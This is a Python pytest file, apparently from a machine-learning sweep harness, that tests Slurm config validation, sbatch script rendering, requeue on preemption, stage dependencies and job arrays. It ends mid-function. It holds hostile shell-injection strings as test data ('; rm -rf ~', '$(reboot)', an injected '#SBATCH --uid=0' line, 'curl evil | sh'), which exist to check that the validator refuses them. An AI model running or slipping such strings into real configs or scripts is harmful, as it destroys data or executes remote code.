"""Slurm launching (harness.launch.slurm): config validation, the sbatch script submitit would submit (no
cluster needed), and requeue-on-preemption of training jobs, simulated with submitit's own signal
handler in-process and with a real LocalExecutor job that receives the preemption signal."""
import json
import os
import signal
import stat
import sys
import time
from pathlib import Path

import cloudpickle
import pytest
import submitit
from submitit.core.job_environment import SignalHandler
from submitit.core.utils import DelayedSubmission, JobPaths
from submitit.local.local import LocalJobEnvironment
from submitit.slurm.slurm import SlurmInfoWatcher, SlurmJob

from harness import io
from harness.errors import ConfigError
from harness.grid.runspec import MethodConfig, RunSpec
from harness.grid.slurm_config import FIELDS, SlurmConfig, parse_slurm
from harness.launch.slurm import (
    RequeueLimitError,
    SlurmUnavailableError,
    TrainingJob,
    make_slurm_executor,
    sbatch_script,
)
from harness.run.train import TrainConfig
from harness.store import lease, records
from harness.store.rundir import RunDir, requeue_count, requeue_records

SRC, KEY = "grids/big.yaml", "executor.slurm"
FULL = {"partition": "gpu,gpu-long", "account": "clip_lab", "qos": "high", "job_name": "clip-sweep",
        "nodes": 1, "gpus_per_node": 8, "tasks_per_node": 1, "cpus_per_task": 10, "mem_gb": 64, "time_min": 240,
        "constraint": "a100&ib", "exclude": "node[01-04],gpu7", "additional": {"mail_type": "END", "exclusive": True},
        "setup": ["module load cuda/12.1", "export NCCL_DEBUG=WARN"], "array_parallelism": 16, "max_requeues": 5,
        "signal_delay_s": 120}


def slurm_error(raw):
    with pytest.raises(ConfigError) as info:
        parse_slurm(raw, SRC, KEY)
    return info.value


# ---------------------------------------------------------------- parsing and validation


def test_a_full_section_parses_to_the_values_given():
    cfg = parse_slurm(FULL, SRC, KEY)
    assert (cfg.partition, cfg.account, cfg.qos, cfg.job_name) == ("gpu,gpu-long", "clip_lab", "high", "clip-sweep")
    assert (cfg.nodes, cfg.gpus_per_node, cfg.tasks_per_node, cfg.cpus_per_task) == (1, 8, 1, 10)
    assert (cfg.mem_gb, cfg.time_min, cfg.constraint, cfg.exclude) == (64, 240, "a100&ib", "node[01-04],gpu7")
    assert cfg.additional == (("exclusive", True), ("mail_type", "END"))
    assert cfg.setup == ("module load cuda/12.1", "export NCCL_DEBUG=WARN")
    assert (cfg.array_parallelism, cfg.max_requeues, cfg.signal_delay_s) == (16, 5, 120)
    hash(cfg)  # frozen and hashable, like the other config dataclasses


@pytest.mark.parametrize("raw", [{}, None])
def test_an_empty_section_gives_the_defaults(raw):
    cfg = parse_slurm(raw, SRC, KEY)
    assert cfg == SlurmConfig()
    assert (cfg.partition, cfg.gpus_per_node, cfg.tasks_per_node, cfg.nodes) == (None, 0, 1, 1)
    assert (cfg.time_min, cfg.max_requeues, cfg.signal_delay_s, cfg.additional, cfg.setup) == (60, 3, 90, (), ())


def test_yaml_numbers_written_as_floats_are_accepted_when_whole():
    cfg = parse_slurm({"gpus_per_node": 8.0, "time_min": 30.0, "mem_gb": 0.5}, SRC, KEY)
    assert (cfg.gpus_per_node, cfg.time_min, cfg.mem_gb) == (8, 30, 0.5)
    assert isinstance(cfg.gpus_per_node, int)


@pytest.mark.parametrize("raw, field, fragment", [
    ({"partiton": "gpu"}, "partiton", "did you mean 'partition'"),
    ({"gpu_per_node": 8}, "gpu_per_node", "did you mean 'gpus_per_node'"),
    ({"max_requeue": 2}, "max_requeue", "did you mean 'max_requeues'"),
    ({"walltime": 60}, "walltime", "allowed: " + ", ".join(sorted(FIELDS))),
    ({"gpus_per_node": "8"}, "gpus_per_node", "must be an integer, got '8'"),
    ({"gpus_per_node": True}, "gpus_per_node", "must be an integer, got True"),
    ({"gpus_per_node": -1}, "gpus_per_node", "must be >= 0"),
    ({"nodes": 0}, "nodes", "must be >= 1, got 0"),
    ({"tasks_per_node": 0}, "tasks_per_node", "must be >= 1"),
    ({"cpus_per_task": 0}, "cpus_per_task", "must be >= 1"),
    ({"cpus_per_task": 2.5}, "cpus_per_task", "must be an integer"),
    ({"mem_gb": 0}, "mem_gb", "must be > 0"),
    ({"mem_gb": -16}, "mem_gb", "must be > 0"),
    ({"mem_gb": "64G"}, "mem_gb", "must be a number of GB"),
    ({"mem_gb": float("nan")}, "mem_gb", "must be a number of GB"),
    ({"time_min": 0}, "time_min", "must be >= 1"),
    ({"time_min": "1:00:00"}, "time_min", "must be an integer"),
    ({"array_parallelism": 0}, "array_parallelism", "must be >= 1"),
    ({"max_array_size": 0}, "max_array_size", "must be >= 1"),
    ({"max_requeues": -1}, "max_requeues", "must be >= 0"),
    ({"signal_delay_s": 0}, "signal_delay_s", "must be >= 1"),
    ({"signal_delay_s": 3600, "time_min": 60}, "signal_delay_s", "must be less than time_min in seconds (3600)"),
    ({"partition": 3}, "partition", "must be a non-empty string"),
    ({"partition": ""}, "partition", "must be a non-empty string"),
    ({"job_name": None}, "job_name", "must be a non-empty string"),
    ({"setup": "module load cuda"}, "setup", "must be a list of shell lines"),
    ({"setup": ["ok", ""]}, "setup[1]", "must be a non-empty string"),
    ({"setup": ["ok", 3]}, "setup[1]", "must be a non-empty string"),
    ({"additional": ["mail-type=END"]}, "additional", "must be a mapping of sbatch option to value"),
    ({"additional": {"partition": "gpu"}}, "additional.partition", "set executor.slurm.partition instead"),
    ({"additional": {"time": "1:00:00"}}, "additional.time", "set executor.slurm.time_min instead"),
    ({"additional": {"ntasks_per_node": 2}}, "additional.ntasks_per_node", "executor.slurm.tasks_per_node"),
    ({"additional": {"output": "x.log"}}, "additional.output", "set by submitit"),
    ({"additional": {"signal": "USR1@60"}}, "additional.signal", "set by submitit"),
    ({"additional": {"no-requeue": True}}, "additional.no-requeue", "max_requeues"),
    ({"additional": {"mail-type": "END", "mail_type": "FAIL"}}, "additional.mail_type", "given twice"),
    ({"additional": {"exclusive": False}}, "additional.exclusive", "true for a bare flag"),
    ({"additional": {"comment": None}}, "additional.comment", "true for a bare flag"),
    ({"additional": {"comment": ["a"]}}, "additional.comment", "must be a string, a number or true"),
    ({"additional": {"--gres": "gpu:8"}}, "additional.--gres", "not an sbatch option name"),
    ({"additional": {"comment": "clip sweep"}}, "additional.comment", "no spaces"),
    ({"additional": {"comment": "x" * 300}}, "additional.comment", "at most 256 characters"),
])
def test_bad_sections_are_refused_naming_file_key_and_what_is_allowed(raw, field, fragment):
    error = slurm_error(raw)
    assert (error.source, error.key) == (SRC, f"{KEY}.{field}")
    assert fragment in str(error) and str(error).startswith(f"{SRC}: {KEY}.{field}: ")


def test_a_section_that_is_not_a_mapping_is_refused():
    error = slurm_error(["partition", "gpu"])
    assert error.key == KEY and "must be a mapping, got list" in str(error)


HOSTILE = ["; rm -rf ~", "\nrm -rf ~", "$(reboot)", "`reboot`", "${HOME}", " && reboot", "'", '"', " #x", "\\",
           "\r", "\x00", "~", "\n#SBATCH --uid=0"]
STRING_FIELDS = ["partition", "account", "qos", "job_name", "constraint", "exclude"]


@pytest.mark.parametrize("field", STRING_FIELDS)
@pytest.mark.parametrize("hostile", HOSTILE, ids=repr)
def test_hostile_strings_are_refused_in_every_field_that_reaches_the_script(field, hostile):
    error = slurm_error({field: f"gpu{hostile}"})
    assert error.key == f"{KEY}.{field}" and "is not allowed" in str(error)


@pytest.mark.parametrize("hostile", HOSTILE, ids=repr)
def test_hostile_additional_values_and_option_names_are_refused(hostile):
    assert slurm_error({"additional": {"comment": f"x{hostile}"}}).key == f"{KEY}.additional.comment"
    assert slurm_error({"additional": {f"comment{hostile}": "x"}}).key == f"{KEY}.additional.comment{hostile}"


@pytest.mark.parametrize("line", ["module load cuda\nrm -rf ~", "echo a\rb", "echo \x00"], ids=repr)
def test_setup_lines_are_shell_but_one_entry_is_one_line(line):
    error = slurm_error({"setup": ["module purge", line]})
    assert error.key == f"{KEY}.setup[1]" and "newline" in str(error)
    assert parse_slurm({"setup": ["source ~/env.sh && cd $HOME"]}, SRC, KEY).setup == ("source ~/env.sh && cd $HOME",)


def test_constructing_a_config_directly_validates_too():
    with pytest.raises(ConfigError) as info:
        SlurmConfig(partition="gpu; rm -rf ~")
    assert info.value.key == "slurm.partition"
    with pytest.raises(ConfigError, match="slurm.nodes"):
        SlurmConfig(nodes=0)
    assert SlurmConfig(additional={"mail_type": "END"}).additional == (("mail_type", "END"),)


# ---------------------------------------------------------------- the sbatch script


def sbatch_lines(script):
    return [line for line in script.splitlines() if line.startswith("#SBATCH")]


def test_the_script_asks_for_what_the_section_says(tmp_path):
    folder = tmp_path / "submitit"
    script = sbatch_script(parse_slurm(FULL, SRC, KEY), folder)
    lines = sbatch_lines(script)
    for expected in ["--partition=gpu,gpu-long", "--account=clip_lab", "--qos=high", "--job-name=clip-sweep",
                     "--nodes=1", "--gpus-per-node=8", "--ntasks-per-node=1", "--cpus-per-task=10", "--mem=64GB",
                     "--time=240", "--constraint='a100&ib'", "--exclude='node[01-04],gpu7'", "--signal=USR2@120",
                     "--requeue", "--open-mode=append", "--mail-type=END", "--exclusive",
                     f"--output={folder}/%j_0_log.out", f"--error={folder}/%j_0_log.err"]:
        assert f"#SBATCH {expected}" in lines, expected
    assert not any(line.startswith("#SBATCH --array") for line in lines)  # one job, not an array
    setup = script.index("# setup\nmodule load cuda/12.1\nexport NCCL_DEBUG=WARN\n")
    command = script.index("srun --unbuffered")
    assert max(script.index(line) for line in lines) < setup < command  # options, then setup, then the job
    assert f"-m submitit.core._submit {folder}" in script and sys.executable in script
    assert not folder.exists()  # rendering writes nothing


def test_defaults_leave_out_what_was_not_asked_for(tmp_path):
    lines = sbatch_lines(sbatch_script(SlurmConfig(), tmp_path))
    text = "\n".join(lines)
    for absent in ("--partition", "--account", "--qos", "--gpus-per-node", "--cpus-per-task", "--mem", "--constraint",
                   "--exclude", "--array"):
        assert absent not in text
    for present in ("--time=60", "--nodes=1", "--ntasks-per-node=1", "--signal=USR2@90", "--requeue",
                    "--job-name=clipsteer"):
        assert f"#SBATCH {present}" in lines


def test_no_requeue_line_when_requeues_are_off_and_fractional_memory_in_mb(tmp_path):
    lines = sbatch_lines(sbatch_script(SlurmConfig(max_requeues=0, mem_gb=1.5), tmp_path))
    assert "#SBATCH --requeue" not in lines and "#SBATCH --mem=1536MB" in lines


def test_an_array_is_capped_by_array_parallelism(tmp_path):
    cfg = SlurmConfig(array_parallelism=4)
    lines = sbatch_lines(sbatch_script(cfg, tmp_path, array_size=10))
    assert "#SBATCH --array=0-9%4" in lines
    assert f"#SBATCH --output={tmp_path}/%A_%a_0_log.out" in lines  # array tasks log per task
    assert "#SBATCH --array=0-2%3" in sbatch_lines(sbatch_script(cfg, tmp_path, array_size=3))
    with pytest.raises(ValueError, match="array_size"):
        sbatch_script(cfg, tmp_path, array_size=0)


def test_a_hostile_value_forced_into_a_config_is_refused_before_any_script_is_made(tmp_path, monkeypatch):
    made = []
    import submitit.slurm.slurm as submitit_slurm
    real = submitit_slurm._make_sbatch_string
    monkeypatch.setattr(submitit_slurm, "_make_sbatch_string", lambda **kw: made.append(kw) or real(**kw))
    cfg = SlurmConfig(partition="gpu")
    object.__setattr__(cfg, "partition", "gpu; rm -rf ~")  # a frozen dataclass can still be forced
    with pytest.raises(ConfigError, match="slurm.partition"):
        sbatch_script(cfg, tmp_path)
    object.__setattr__(cfg, "partition", "gpu")
    object.__setattr__(cfg, "setup", ("echo ok\ncurl evil | sh",))
    with pytest.raises(ConfigError, match=r"slurm.setup\[0\]"):
        sbatch_script(cfg, tmp_path)
    assert made == []  # submitit never saw the values
    object.__setattr__(cfg, "setup", ())
    sbatch_script(cfg, tmp_path)
    assert made  # the spy does see a good config


@pytest.mark.parametrize("name", ["runs%j", "bad\nname"], ids=repr)
def test_a_job_folder_that_would_break_log_paths_or_the_script_is_refused(tmp_path, name):
    with pytest.raises(ConfigError, match="may not contain"):
        sbatch_script(SlurmConfig(), tmp_path / name)


# ---------------------------------------------------------------- the executor


def fake_slurm(tmp_path, monkeypatch):
    """srun and sbatch stand-ins on PATH; sbatch answers like Slurm does."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name, body in (("srun", "exit 0"), ("sbatch", 'echo "Submitted batch job 4242"')):
        path = bin_dir / name
        path.write_text(f"#!/bin/sh\n{body}\n")
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")


def test_off_a_cluster_making_the_executor_says_so(tmp_path, monkeypatch):
    empty = tmp_path / "empty"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    with pytest.raises(SlurmUnavailableError, match="srun and sbatch on PATH"):
        make_slurm_executor(SlurmConfig(), tmp_path / "submitit")


def test_the_executor_submits_the_rendered_script_and_a_checkpointable_job(tmp_path, monkeypatch):
    fake_slurm(tmp_path, monkeypatch)
    cfg, folder = parse_slurm(FULL, SRC, KEY), tmp_path / "submitit"
    executor = make_slurm_executor(cfg, folder)
    assert isinstance(executor, submitit.AutoExecutor) and executor.cluster == "slurm"
    assert executor._executor.max_num_timeout == cfg.max_requeues  # submitit's own timeout bound agrees
    spec = {"run_id": "r1"}
    job = executor.submit(TrainingJob(cfg.max_requeues, cfg.time_min), spec, str(tmp_path), 10, False)
    assert job.job_id == "4242"
    assert job.paths.submission_file.read_text() == sbatch_script(cfg, folder)  # what was submitted
    delayed = DelayedSubmission.load(job.paths.submitted_pickle)
    assert isinstance(delayed.function, TrainingJob) and delayed.function.max_requeues == 5
    assert delayed.args == (spec, str(tmp_path), 10, False)
    assert (delayed._timeout_min, delayed._timeout_countdown) == (240, 5)


# ---------------------------------------------------------------- requeues


def test_checkpoint_resubmits_the_same_call_and_records_each_requeue_up_to_the_bound(tmp_path):
    spec, rdir = {"run_id": "r1"}, records.run_dir(tmp_path, "r1")
    job = TrainingJob(max_requeues=2, timeout_min=60)
    for n in (1, 2):
        delayed = job.checkpoint(spec, str(tmp_path), 4, False)
        assert isinstance(delayed, DelayedSubmission)
        assert delayed.function is job and delayed.args == (spec, str(tmp_path), 4, False) and delayed.kwargs == {}
        assert requeue_count(rdir) == n
    assert job.checkpoint(spec, str(tmp_path), 4, False) is None  # the third signal is refused
    entries = requeue_records(rdir)
    assert [(r["requeued"], r["count"]) for r in entries] == [(True, 1), (True, 2), (False, 2)]
    assert "max_requeues=2 reached" in entries[-1]["why"]
    assert all(r["signal"] == "SIGUSR2" and r["attempt"] == job.attempt and r["time"] > 0 for r in entries)
    assert requeue_count(rdir) == 2 and (rdir / "requeues.jsonl").read_text().count("\n") == 3


def test_the_bound_is_per_submission(tmp_path):
    spec, rdir = {"run_id": "r1"}, records.run_dir(tmp_path, "r1")
    first = TrainingJob(max_requeues=1)
    assert first.checkpoint(spec, tmp_path) is not None and first.checkpoint(spec, tmp_path) is None
    second = TrainingJob(max_requeues=1)  # a later launch of the same run starts a new count
    assert second.checkpoint(spec, tmp_path) is not None
    assert requeue_count(rdir) == 2 and requeue_count(rdir, first.attempt) == requeue_count(rdir, second.attempt) == 1
    assert requeue_count(records.run_dir(tmp_path, "never")) == 0


def test_a_line_cut_by_a_kill_is_skipped(tmp_path):
    rdir = records.run_dir(tmp_path, "r1")
    io.append_jsonl(rdir / "requeues.jsonl", {"requeued": True, "attempt": "a"})
    with open(rdir / "requeues.jsonl", "a") as f:
        f.write('{"requeued": tr')
    assert requeue_count(rdir) == 1


def test_timeouts_and_preemptions_are_told_apart_by_submitits_rule():
    job = TrainingJob(timeout_min=60)
    assert job._reason(10 * 60) == "preemption" and job._reason(49 * 60) == "timeout"
    assert TrainingJob(timeout_min=20)._reason(15 * 60) == "timeout"  # 80% of a short job
    assert TrainingJob()._reason(5.0) == "preemption or timeout"


def test_the_job_runs_harness_run_job_with_its_arguments(tmp_path, monkeypatch):
    import harness.run.job
    calls = []
    monkeypatch.setattr(harness.run.job, "run_job", lambda *args, **kw: calls.append((args, kw)) or {"ok": True})
    assert TrainingJob()({"run_id": "r1"}, str(tmp_path), 3, False) == {"ok": True}
    assert TrainingJob()({"run_id": "r1"}, str(tmp_path), 3, False, "token", code="v1") == {"ok": True}
    assert calls == [(({"run_id": "r1"}, str(tmp_path), 3, False), {}),
                     (({"run_id": "r1"}, str(tmp_path), 3, False, "token"), {"code": "v1"})]


def test_checkpoint_passes_further_arguments_on_unchanged(tmp_path):
    job, spec = TrainingJob(), {"run_id": "r1"}
    delayed = job.checkpoint(spec, str(tmp_path), 2, False, "lease-token", code="abc123")
    assert delayed.args == (spec, str(tmp_path), 2, False, "lease-token") and delayed.kwargs == {"code": "abc123"}


def test_every_task_of_a_multi_task_job_trains(tmp_path, monkeypatch):
    monkeypatch.setenv("SUBMITIT_EXECUTOR", "local")
    monkeypatch.setenv("SUBMITIT_LOCAL_JOB_ID", "7")
    monkeypatch.setenv("SUBMITIT_LOCAL_GLOBALID", "1")
    job = TrainingJob()
    job.work = lambda *args: {"rank 1 trained": True}  # its share of the data-parallel run
    assert job({"run_id": "r1"}, str(tmp_path)) == {"rank 1 trained": True}


class SignalledJob(TrainingJob):
    """Its work is a recorded run (as run_job's) during which submitit's own signal handler fires."""

    def work(self, spec, results, threads, show):
        rdir = records.run_dir(Path(results), spec.run_id)
        return records.recorded(rdir, spec, lambda: self.handler.checkpoint_and_try_requeue(signal.SIGUSR2))


def signalled(tmp_path, monkeypatch, max_requeues):
    """A SignalledJob wired to submitit's SignalHandler as a local job would be (requeue = exit 144)."""
    monkeypatch.setenv("SUBMITIT_EXECUTOR", "local")
    monkeypatch.setenv("SUBMITIT_LOCAL_JOB_ID", "4242")
    spec = RunSpec(grid="g", stage="s", method=MethodConfig("clip"), model="tiny-s", samples_seen=32, seed=0, data={},
                   train=TrainConfig(), eval_tasks=(), eval_suite="test", reference=None, run_id="r1")
    job = SignalledJob(max_requeues=max_requeues, timeout_min=60)
    delayed = DelayedSubmission(job, spec, str(tmp_path), 1, False)
    delayed.set_timeout(60, max_requeues)
    paths = JobPaths(tmp_path / "submitit", job_id="4242")
    paths.folder.mkdir(parents=True)
    job.handler = SignalHandler(LocalJobEnvironment(), paths, delayed)
    return job, spec, paths


def test_a_requeue_leaves_the_run_waiting_not_failed(tmp_path, monkeypatch):
    job, spec, paths = signalled(tmp_path, monkeypatch, max_requeues=3)
    with pytest.raises(SystemExit) as info:
        job(spec, str(tmp_path), 1, False)
    assert info.value.code == 144  # submitit's local "requeue me"
    rdir = records.run_dir(tmp_path, "r1")
    status = records.read_status(rdir)
    assert status["state"] == "running" and not (rdir / "error.txt").exists()
    assert lease.read(rdir) is not None  # kept for the requeued job, which joins it with the same token
    assert requeue_count(rdir) == 1
    resubmitted = DelayedSubmission.load(paths.submitted_pickle)  # what the requeued job will run
    assert resubmitted.args == (spec, str(tmp_path), 1, False) and resubmitted.function.attempt == job.attempt


def test_past_the_bound_the_run_fails_saying_why(tmp_path, monkeypatch):
    job, spec, paths = signalled(tmp_path, monkeypatch, max_requeues=0)
    with pytest.raises(RequeueLimitError, match="max_requeues=0 reached"):
        job(spec, str(tmp_path), 1, False)
    rdir = records.run_dir(tmp_path, "r1")
    assert records.state(tmp_path, "r1") == "failed"
    error = records.read_status(rdir)["error"]
    assert error.startswith("RequeueLimitError: ") and "max_requeues=0 reached" in error
    assert [r["requeued"] for r in requeue_records(rdir)] == [False] and requeue_count(rdir) == 0
    assert not paths.submitted_pickle.exists()  # nothing resubmitted


STEPS = 40  # of 50 ms: 2 s of "training"


class CountingJob(TrainingJob):
    """Counts to STEPS, keeping its progress in the run directory (as training keeps checkpoints), and
    resumes from it. Pickled by value into the LocalExecutor's process; imports nothing heavy (no
    harness.store.records), so that each start takes about a second."""

    def work(self, spec, results, threads, show):
        rdir = Path(results) / "runs" / spec["run_id"]
        progress = rdir / "progress"
        start = int(progress.read_text()) if progress.exists() else 0
        with open(rdir / "starts.jsonl", "a") as f:
            f.write(json.dumps({"pid": os.getpid(), "start": start}) + "\n")
        for step in range(start, STEPS):
            time.sleep(0.05)
            progress.write_text(str(step + 1))
        return {"counted": STEPS, "resumed_from": start}


def wait_for(predicate, timeout, what):
    deadline = time.time() + timeout
    while not predicate():
        if time.time() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.05)


def test_a_preempted_local_job_is_requeued_and_resumes(tmp_path):
    """Slurm sends the preemption/timeout signal (USR2) to the job's task; here it goes to the local job's
    task process (LocalJob._interrupt() would signal submitit's controller instead, which dies of it)."""
    cloudpickle.register_pickle_by_value(sys.modules[__name__])
    try:
        executor = submitit.LocalExecutor(folder=tmp_path / "submitit", max_num_timeout=3)
        executor.update_parameters(timeout_min=60)
        rdir = records.run_dir(tmp_path, "r1")
        rdir.mkdir(parents=True)
        job = executor.submit(CountingJob(max_requeues=3, timeout_min=60), {"run_id": "r1"}, str(tmp_path), 1, False)
    finally:
        cloudpickle.unregister_pickle_by_value(sys.modules[__name__])
    try:
        progress = rdir / "progress"
        wait_for(lambda: progress.exists() and int(progress.read_text() or 0) >= 5, 60, "the job to make progress")
        pid = json.loads((rdir / "starts.jsonl").read_text().splitlines()[0])["pid"]
        os.kill(pid, signal.SIGUSR2)
        wait_for(job.done, 60, "the job to finish")
    finally:
        if not job.done():
            job.cancel()
    result = job.result()
    starts = [json.loads(line) for line in (rdir / "starts.jsonl").read_text().splitlines()]
    assert len(starts) == 2 and starts[0]["start"] == 0 and starts[1]["pid"] != pid
    assert 5 <= starts[1]["start"] < STEPS  # the second start resumed where the first was stopped
    assert result == {"counted": STEPS, "resumed_from": starts[1]["start"]}
    record = requeue_records(rdir)[0]
    assert requeue_count(rdir) == 1 and record["reason"] == "preemption" and record["pid"] == pid
    assert record["job_id"] == job.job_id  # recorded by the job itself, inside submitit



SLURM_GRID = """
name: cluster
data: {sources: [shapes], shapes_count: 256}
eval: {tasks: [shapes_retrieval]}
train: {batch_size: 32}
executor:
  kind: slurm
  max_parallel: 16
  slurm: {partition: PARTITION, gpus_per_node: 1, cpus_per_task: 8, mem_gb: 32, time_min: 240}
stages:
  - name: s
    methods: [clip]
    models: [tiny-s]
    samples_seen: [64, 128]
"""


def slurm_grid(tmp_path, partition):
    path = tmp_path / "cluster.yaml"
    path.write_text(SLURM_GRID.replace("PARTITION", partition))
    return path


def test_a_slurm_grid_dry_runs_with_its_sbatch_script_and_launches_only_on_a_cluster(tmp_path, capsys, monkeypatch):
    from harness.cli import main

    path, out = slurm_grid(tmp_path, "gpu"), tmp_path / "out"
    assert main(["run", str(path), "--results", str(out), "--dry-run"]) == 0
    printed = capsys.readouterr().out
    assert "2 runs, 0 done, 2 to launch (executor slurm" in printed
    for line in ("#SBATCH --partition=gpu", "#SBATCH --gpus-per-node=1", "#SBATCH --cpus-per-task=8",
                 "#SBATCH --time=240", "#SBATCH --signal=USR2@90", "#SBATCH --requeue"):
        assert line in printed
    assert not out.exists()
    monkeypatch.setenv("PATH", str(tmp_path))  # no srun, no sbatch here
    assert main(["run", str(path), "--results", str(out)]) == 2
    assert "executor.kind: 'slurm' needs Slurm's srun and sbatch on PATH" in capsys.readouterr().err


def test_a_hostile_slurm_value_in_a_grid_is_refused_before_anything_runs(tmp_path, capsys):
    from harness.cli import main

    path, out = slurm_grid(tmp_path, "'gpu; rm -rf ~'"), tmp_path / "out"
    assert main(["run", str(path), "--results", str(out), "--dry-run"]) == 2
    err = capsys.readouterr().err
    assert f"{path}: executor.slurm.partition: 'gpu; rm -rf ~' is not allowed" in err
    assert not out.exists()


def test_a_slurm_section_needs_kind_slurm_and_a_local_override_drops_it(tmp_path):
    from harness.cli import _grid_and_executor
    from harness.grid.config import load_grid

    path = tmp_path / "g.yaml"
    path.write_text(SLURM_GRID.replace("kind: slurm", "kind: local").replace("PARTITION", "gpu"))
    with pytest.raises(ConfigError, match="executor.slurm: only with 'kind: slurm'"):
        load_grid(path)
    args = type("Args", (), {"grid": slurm_grid(tmp_path, "gpu"), "executor": "local", "max_parallel": None})()
    _, executor = _grid_and_executor(args)
    assert executor.kind == "local" and executor.slurm is None


# ---------------------------------------------------------------- stage dependencies in the scheduler

def queueing_slurm(tmp_path, monkeypatch):
    """A stand-in Slurm. sbatch numbers jobs 1, 2, ..., keeps each script and queues its tasks (`n`, or `n_0` to
    `n_k` for `--array=0-k`); squeue lists the queued tasks of the job it is asked about as PENDING and logs
    each call; sacct prints the file `sacct` (nothing at first, as right after submission). Fresh squeue and
    sacct caches, so no answer of another test's job 1 is reused."""
    bin_dir, state = tmp_path / "bin", tmp_path / "slurm"
    bin_dir.mkdir()
    state.mkdir()
    (state / "queue").write_text("")
    (state / "sacct").write_text("")
    scripts = {
        "srun": "exit 0",
        "sbatch": f'n=$(( $(ls {state} | grep -c "^job-") + 1 )); cp "$1" {state}/job-$n.sh; '
                  f'last=$(sed -n "s/^#SBATCH --array=0-\\([0-9]*\\).*/\\1/p" "$1"); '
                  f'if [ -z "$last" ]; then echo $n >> {state}/queue; '
                  f'else seq -f "${{n}}_%g" 0 "$last" >> {state}/queue; fi; echo "Submitted batch job $n"',
        "squeue": f'echo "$*" >> {state}/squeue.log; while [ $# -gt 0 ]; do [ "$1" = -j ] && id=$2; shift; done; '
                  f'grep -E "^$id(_[0-9]+)?$" {state}/queue | sed "s/$/ PENDING/"; exit 0',
        "sacct": f"cat {state}/sacct",
    }
    for name, body in scripts.items():
        path = bin_dir / name
        path.write_text(f"#!/bin/sh\n{body}\n")
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setattr(lease, "_squeue_answers", {})
    monkeypatch.setattr(SlurmJob, "watcher", SlurmInfoWatcher(delay_s=600))
    return state


DEPENDENT_GRID = """
name: deps
data: {sources: [shapes], shapes_count: 256}
eval: {tasks: [shapes_retrieval]}
train: {batch_size: 16}
executor: {kind: slurm, max_parallel: 10, slurm: {gpus_per_node: 8, tasks_per_node: 8, time_min: 60}}
stages:
  - {name: reference, methods: [clip], models: [tiny-s], samples_seen: [32]}
  - {name: sweep, reference: reference, methods: [clip, drrho], models: [tiny-s], samples_seen: [32]}
"""


def test_a_stage_waits_for_its_reference_in_the_slurm_queue_not_in_the_client(tmp_path, monkeypatch):
    from harness.grid.config import load_grid
    from harness.grid.spec import expand
    from harness.launch import launcher

    state = queueing_slurm(tmp_path, monkeypatch)
    monkeypatch.setattr(lease, "SQUEUE_CACHE_S", 0.0)  # this test changes the queue and looks again at once
    (tmp_path / "deps.yaml").write_text(DEPENDENT_GRID)
    grid = load_grid(tmp_path / "deps.yaml")
    specs, results = expand(grid), tmp_path / "results"
    report = launcher.launch(specs, results, grid.executor, log=lambda *_: None, wait=False)

    reference, plain, steered = (s.run_id for s in specs)  # the sweep's clip run reads no reference
    # the two runs ready at once (the reference and the sweep's clip) are one array; drrho waits for the reference
    assert report.queued == {reference: "1_0", plain: "1_1", steered: "2"}
    scripts = {run_id: (state / f"job-{job.split('_')[0]}.sh").read_text() for run_id, job in report.queued.items()}
    assert "#SBATCH --array=0-1%2\n" in scripts[reference] and "--array" not in scripts[steered]
    assert "--dependency" not in scripts[reference] and "--dependency" not in scripts[plain]
    # drrho is held by Slurm until the reference job succeeds, and cancelled by it if that job fails
    assert f"#SBATCH --dependency=afterok:{report.queued[reference]}\n" in scripts[steered]
    assert "#SBATCH --kill-on-invalid-dep=yes\n" in scripts[steered]
    assert all("#SBATCH --ntasks-per-node=8\n" in script for script in scripts.values())

    # The launcher is gone; its heartbeat stopped. Leases hold while squeue lists the jobs, past their expiry.
    for spec in specs:
        rdir = records.run_dir(results, spec.run_id)
        record = lease.read(rdir)
        io.write_json(RunDir(rdir).lease, {**record, "expires": time.time() - 1})
        assert lease.holder(rdir) is not None and "slurm job" in lease.describe(record)
    again = launcher.launch(specs, results, grid.executor, log=lambda *_: None, wait=False)
    assert not again.queued and len(list(state.glob("job-*.sh"))) == 2  # nothing submitted twice

    (state / "queue").write_text("")  # the jobs left the queue without a result (cancelled)
    assert all(lease.holder(records.run_dir(results, s.run_id)) is None for s in specs)


def test_only_a_slurm_launch_can_leave_its_runs_queued(tmp_path):
    from harness.grid.config import ExecutorConfig
    from harness.launch import launcher

    with pytest.raises(ValueError, match="only a Slurm launch"):
        launcher.launch([], tmp_path, ExecutorConfig(kind="local"), wait=False)


def test_run_no_wait_leaves_the_sweep_queued_and_refuses_a_local_executor(tmp_path, monkeypatch, capsys):
    from harness.cli import main

    state = queueing_slurm(tmp_path, monkeypatch)
    grid = tmp_path / "deps.yaml"
    grid.write_text(DEPENDENT_GRID)
    assert main(["run", str(grid), "--results", str(tmp_path / "r"), "--no-wait"]) == 0
    out = capsys.readouterr().out
    assert out.count("queued ") == 3 and "Slurm job 1_0" in out and "wrote" not in out  # no report yet
    assert len(list(state.glob("job-*.sh"))) == 2
    assert main(["run", str(grid), "--results", str(tmp_path / "r2"), "--executor", "local", "--no-wait"]) == 2
    assert "--no-wait leaves runs in the Slurm queue" in capsys.readouterr().err
    assert not (tmp_path / "r2").exists()


# ---------------------------------------------------------------- job arrays

def array_grid(tmp_path, seeds, reference=True):
    """A Slurm grid: a one-run reference stage, then clip and drrho (steered by it) at `seeds` seeds each."""
    stages = [{"name": "reference", "methods": ["clip"], "models": ["tiny-s"], "samples_seen": [32]},
              {"name": "sweep", "methods": ["clip", "drrho"] if reference else ["clip"], "models": ["tiny-s"],
               "samples_seen": [32], "seeds": list(range(seeds)), **({"reference": "reference"} if reference else {})}]
    grid = {"name": "arrays", "data": {"sources": ["shapes"], "shapes_count": 256},
            "eval": {"tasks": ["shapes_retrieval"]}, "train": {"batch_size": 16},
            "executor": {"kind": "slurm", "slurm": {"gpus_per_node": 1, "array_parallelism": 16}},
            "stages": stages if reference else stages[1:]}
    path = tmp_path / "arrays.yaml"
    path.write_text(json.dumps(grid))  # YAML is a superset of JSON
    return path


def expire_leases(results, specs):
